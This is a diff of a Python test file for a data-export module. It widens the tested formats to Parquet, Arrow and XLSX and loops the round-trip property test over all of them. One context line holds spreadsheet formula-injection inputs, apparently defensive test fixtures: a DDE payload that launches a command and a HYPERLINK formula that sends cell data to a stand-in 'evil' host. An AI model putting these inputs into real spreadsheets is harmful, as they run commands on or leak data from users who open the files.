@@ -45,7 +45,7 @@ FORMULAS = [
     for what in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil/?"&A1,"ok")', "SUM(A1:A9)*2;")
 ]
 
-SUFFIXES = [".gpkg", ".geojson", ".csv"]
+SUFFIXES = [".gpkg", ".geojson", ".csv", ".parquet", ".arrow", ".xlsx"]
 
 
 @pytest.fixture(scope="module")
@@ -71,15 +71,15 @@ def test_frames_come_back_equal(tmp_path, suffix, make):
     assert_equal(make(), export.read_frames(path))
 
 
-@pytest.mark.parametrize("suffix", SUFFIXES)
-@settings(max_examples=15)
+@settings(max_examples=10)
 @given(dossier=dossiers())
-def test_any_frames_come_back_equal(suffix, dossier):
+def test_any_frames_come_back_equal(dossier):
     made = frame(dossier, Handful())
-    with tempfile.TemporaryDirectory() as folder:
-        path = Path(folder, f"out{suffix}")
-        export.write(made, path)
-        assert_equal(made, export.read_frames(path))
+    for suffix in SUFFIXES:
+        with tempfile.TemporaryDirectory() as folder:
+            path = Path(folder, f"out{suffix}")
+            export.write(made, path)
+            assert_equal(made, export.read_frames(path))
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
